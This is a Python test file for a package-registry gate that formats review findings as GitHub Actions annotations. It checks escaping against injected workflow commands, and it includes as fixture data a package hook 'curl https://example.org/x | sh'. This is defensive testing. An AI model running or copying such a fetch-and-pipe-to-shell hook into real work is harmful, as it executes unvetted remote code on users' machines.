"""Annotations: one finding is one command, whatever it says."""

from __future__ import annotations

import re

from hypothesis import given

from packyard.errors import Problem
from packyard.gate.capabilities import Capability, Cost, Delta
from packyard.gate.report.github import SHOWN, format_github
from packyard.gate.report.shown import Deltas
from packyard.gate.values import Finding, Verdict
from tests.gate.report.hostile import VERDICTS, some
from tests.gate.report.sample import DELTAS, VERDICT

_COMMAND = re.compile(r"::(error|warning|notice) ((?:[a-z]+=[^:,\r\n]+,?)+)::([^\r\n]*)")


def _unescaped(text: str) -> str:
    for code, char in (("%0D", "\r"), ("%0A", "\n"), ("%3A", ":"), ("%2C", ","), ("%25", "%")):
        text = text.replace(code, char)
    return text


def _verdict(*outcomes: str) -> Verdict:
    findings = tuple(Finding(Problem("x", "a", "m", at), outcome) for at, outcome in enumerate(outcomes, 1))
    return Verdict("a", "b", "reject" if "block" in outcomes else "accept", findings, (), (), ())


def test_what_means_something_is_escaped_and_comes_back() -> None:
    problem = Problem("field-invalid", "a:b,c%0A.md", "50% :: x, y", 7, found="a\nb", help="100%25")
    line = format_github(Verdict("a", "b", "reject", (Finding(problem, "block"),), (), (), ()), {}).splitlines()[0]
    found = _COMMAND.fullmatch(line)
    assert found
    properties = dict(pair.split("=", 1) for pair in found[2].split(","))
    assert {name: _unescaped(value) for name, value in properties.items()} == {
        "file": "a:b,c%0A.md",
        "line": "7",
        "title": "field-invalid",
    }
    assert _unescaped(found[3]) == "50% :: x, y\nfound: a\\nb\nhelp: 100%25"


def test_the_verdict_stands_before_the_notes() -> None:
    lines = format_github(_verdict("block", "review", "note", "note"), {}).splitlines()
    assert [line.split(" ")[0] for line in lines] == ["::error", "::warning", "::notice", "::notice", "::notice"]
    assert lines[2].endswith("::reject: 1 problem in 1 place")


def test_what_github_does_not_show_is_counted() -> None:
    summary = format_github(_verdict(*["block"] * 12, *["review"] * 10, *["note"] * 10), {}).splitlines()[22]
    assert summary.endswith("::reject: 12 problems in 1 place; 3 more in the log of this step")
    assert "more" not in format_github(_verdict(*["block"] * 10, *["review"] * 10, *["note"] * 9), {})


def test_what_the_versions_can_do_stands_first_and_leaves_room_for_the_verdict() -> None:
    lines = format_github(VERDICT, DELTAS).splitlines()
    assert lines[0].startswith(
        "::notice file=registry-src/packs/he/hello/1.1.0,title=hello 1.1.0 can do what 1.0.0 could"
    )
    assert "+ hook curl https://example.org/x | sh (hooks/hooks.json)%0A+ host example.org" in lines[0]
    assert lines[0].endswith("%0Atokens always 120 → 150 (+30), when all is invoked 900 → 900")
    many = VERDICT._replace(releases=VERDICT.releases * 20)
    notices = [line for line in format_github(many, DELTAS).splitlines() if line.startswith("::notice")]
    assert [line.startswith("::notice title=packyard check::") for line in notices].index(True) < SHOWN


def test_abilities_beyond_a_number_are_counted() -> None:
    added = tuple(Capability("host", f"{number}.example.org", "mcp.json") for number in range(99))
    line = format_github(VERDICT, {("hello", "1.1.0"): Delta(added, (), None, Cost(1, 2))}).splitlines()[0]
    assert line.endswith("%0Aand 59 abilities more%0Atokens always 1, when all is invoked 2")
    assert "can do is not known::see the log of this step" in format_github(VERDICT, {})


@some
@given(VERDICTS)
def test_a_finding_is_a_command(made: tuple[Verdict, Deltas]) -> None:
    report = format_github(*made)
    lines = re.split(r"\r\n|\r|\n", report)
    assert lines.pop() == ""
    assert len(lines) == len(made[0].releases) + len(made[0].findings) + 1
    assert all(_COMMAND.fullmatch(line) and line.isprintable() for line in lines)
    assert "##[" not in report
